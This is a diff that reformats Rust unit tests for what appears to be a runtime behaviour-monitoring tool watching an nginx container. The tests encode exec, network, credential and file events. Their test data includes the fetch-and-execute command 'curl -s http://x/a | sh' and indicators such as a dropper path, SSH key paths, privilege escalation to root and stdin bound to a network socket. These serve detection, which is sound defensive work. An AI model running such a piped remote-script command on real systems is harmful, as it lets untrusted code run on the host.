@@ -20,7 +20,10 @@ fn object(who: &Who, kind: EventKind) -> String {
 
 #[test]
 fn an_exec_is_coded_by_parent_program_and_by_the_shape_of_its_arguments() {
-    let all = coded(&who(&["/bin/sh", NGINX]), run_args("/bin/sh", &["-c", "curl -s http://x/a | sh"]));
+    let all = coded(
+        &who(&["/bin/sh", NGINX]),
+        run_args("/bin/sh", &["-c", "curl -s http://x/a | sh"]),
+    );
     assert_eq!(all.len(), 2);
     assert_eq!(all[0].kind, BehaviourKind::Exec);
     assert_eq!(all[0].program, NGINX.into());
@@ -38,21 +41,32 @@ fn a_script_is_part_of_what_was_started_and_never_runs_into_the_program() {
         coded(&nginx(), EventKind::Exec(e))[0].id()
     };
     assert_ne!(start("/bin/sh", "/opt/a.sh"), start("/bin/sh", "/opt/b.sh"));
-    assert_ne!(start("/bin/sh", "/opt/a.sh"), start("/bin/sh /opt/a.sh", ""));
+    assert_ne!(
+        start("/bin/sh", "/opt/a.sh"),
+        start("/bin/sh /opt/a.sh", "")
+    );
 }
 
 #[test]
 fn lifecycle_is_no_behaviour() {
     assert!(coded(&nginx(), EventKind::Exit { code: 0, signal: 0 }).is_empty());
-    let fork = EventKind::Fork { child: ProcessKey::default() };
+    let fork = EventKind::Fork {
+        child: ProcessKey::default(),
+    };
     assert!(coded(&nginx(), fork).is_empty());
 }
 
 #[test]
 fn the_same_service_is_no_stranger_after_the_agent_restarted() {
     let before = coded(&nginx(), read("/etc/nginx/nginx.conf"));
-    let after = coded(&nginx().entry(Entry::FoundRunning), read("/etc/nginx/nginx.conf"));
-    let visitor = coded(&nginx().entry(Entry::ExecSession), read("/etc/nginx/nginx.conf"));
+    let after = coded(
+        &nginx().entry(Entry::FoundRunning),
+        read("/etc/nginx/nginx.conf"),
+    );
+    let visitor = coded(
+        &nginx().entry(Entry::ExecSession),
+        read("/etc/nginx/nginx.conf"),
+    );
     assert_eq!(before, after);
     assert_ne!(before, visitor);
 }
@@ -87,7 +101,10 @@ fn volatile_parts_of_paths_are_named_and_others_are_left() {
         ("/root/.ssh/id_123456789", "/root/.ssh/id_123456789"),
         ("/tmp/dropper", "/tmp/dropper"),
     ] {
-        assert_eq!(String::from_utf8_lossy(&paths::normalise(path.as_bytes())), coded);
+        assert_eq!(
+            String::from_utf8_lossy(&paths::normalise(path.as_bytes())),
+            coded
+        );
     }
 }
 
@@ -103,7 +120,10 @@ fn shapes_keep_flags_and_type_values() {
         (&["q8f3k0z1x7p"], "<str>"),
         (&[][..], "-"),
     ] {
-        let argv: Vec<Text> = std::iter::once("prog").chain(args.iter().copied()).map(Text::from).collect();
+        let argv: Vec<Text> = std::iter::once("prog")
+            .chain(args.iter().copied())
+            .map(Text::from)
+            .collect();
         assert_eq!(shape::shape(b"/usr/bin/prog", &argv), shape, "{args:?}");
     }
 }
@@ -113,7 +133,9 @@ fn peers_are_named_by_service_then_by_resolved_name_then_by_address() {
     let c = container("web", 0);
     let mut names = ResolvedNames::new();
     let code = |names: &ResolvedNames, peer: &str| {
-        behaviours(&see(&c, 1, &nginx(), connect(peer)), &c, names)[0].object.to_string()
+        behaviours(&see(&c, 1, &nginx(), connect(peer)), &c, names)[0]
+            .object
+            .to_string()
     };
     assert_eq!(code(&names, "10.0.0.5:443"), "tcp 10.0.0.5:443");
     assert_eq!(code(&names, "[2001:db8::1]:443"), "tcp [2001:db8::1]:443");
@@ -139,7 +161,13 @@ fn ephemeral_ports_and_own_addresses_do_not_make_new_behaviours() {
     assert_eq!(a, object(&nginx(), accept(80, "10.0.0.9:50000")));
     assert_eq!(a, "tcp :80 from 10.0.0.9");
     let own = |ip: [u8; 4]| {
-        object(&nginx(), EventKind::Listen { proto: Proto::Tcp, local: SockAddr::Inet(ip.into(), 80) })
+        object(
+            &nginx(),
+            EventKind::Listen {
+                proto: Proto::Tcp,
+                local: SockAddr::Inet(ip.into(), 80),
+            },
+        )
     };
     assert_eq!(own([172, 17, 0, 2]), own([172, 17, 0, 3]));
     assert_eq!(own([0, 0, 0, 0]), "tcp any:80");
@@ -148,19 +176,40 @@ fn ephemeral_ports_and_own_addresses_do_not_make_new_behaviours() {
 
 #[test]
 fn every_other_kind_reads_as_a_person_would_say_it() {
-    let caps = EventKind::Credentials { old_uid: 33, new_uid: 0, old_caps: 0, new_caps: 1 << 21 };
+    let caps = EventKind::Credentials {
+        old_uid: 33,
+        new_uid: 0,
+        old_caps: 0,
+        new_caps: 1 << 21,
+    };
     let all = coded(&nginx(), caps);
     assert_eq!(all[0].object, "uid 33 -> 0".into());
     assert_eq!(all[1].object, "cap_sys_admin".into());
-    let dup = EventKind::Dup { stream: 0, target: DupTarget::Inet, peer: None };
+    let dup = EventKind::Dup {
+        stream: 0,
+        target: DupTarget::Inet,
+        peer: None,
+    };
     assert_eq!(object(&nginx(), dup), "stdin on network socket");
-    let memfd = EventKind::Memfd { name: "jit-4711".into() };
+    let memfd = EventKind::Memfd {
+        name: "jit-4711".into(),
+    };
     assert_eq!(object(&nginx(), memfd), "jit-<n>");
-    let socket = EventKind::Socket { family: 17, kind: 3, protocol: 768 };
+    let socket = EventKind::Socket {
+        family: 17,
+        kind: 3,
+        protocol: 768,
+    };
     assert_eq!(object(&nginx(), socket), "packet raw 768");
-    let kill = EventKind::Signal { signal: 9, target: 4242 };
+    let kill = EventKind::Signal {
+        signal: 9,
+        target: 4242,
+    };
     assert_eq!(object(&nginx(), kill), "SIGKILL to a process");
-    assert_eq!(object(&nginx(), rename("/data/temp-12.rdb", "/data/dump.rdb")), "/data/temp-12.rdb -> /data/dump.rdb");
+    assert_eq!(
+        object(&nginx(), rename("/data/temp-12.rdb", "/data/dump.rdb")),
+        "/data/temp-12.rdb -> /data/dump.rdb"
+    );
 }
 
 #[test]
@@ -175,7 +224,10 @@ fn a_failed_call_is_another_behaviour_than_one_that_worked() {
 #[test]
 fn long_objects_are_cut_and_still_tell_apart() {
     let path = |end: &str| format!("/{}{end}", "x".repeat(3000));
-    let (a, b) = (coded(&nginx(), write(&path("a"))), coded(&nginx(), write(&path("b"))));
+    let (a, b) = (
+        coded(&nginx(), write(&path("a"))),
+        coded(&nginx(), write(&path("b"))),
+    );
     assert!(a[0].object.len() <= plimsoll_baseline::code::MAX_OBJECT);
     assert_ne!(a[0].id(), b[0].id());
 }
@@ -183,9 +235,8 @@ fn long_objects_are_cut_and_still_tell_apart() {
 #[test]
 fn resolved_names_are_bounded() {
     let mut names = ResolvedNames::new();
-    let full = (0..plimsoll_baseline::peers::MAX_SERVICES as u32).all(|n| {
-        names.set_service(std::net::Ipv4Addr::from(n).into(), "s")
-    });
+    let full = (0..plimsoll_baseline::peers::MAX_SERVICES as u32)
+        .all(|n| names.set_service(std::net::Ipv4Addr::from(n).into(), "s"));
     assert!(full);
     assert!(!names.set_service([255, 0, 0, 1].into(), "s"));
 }
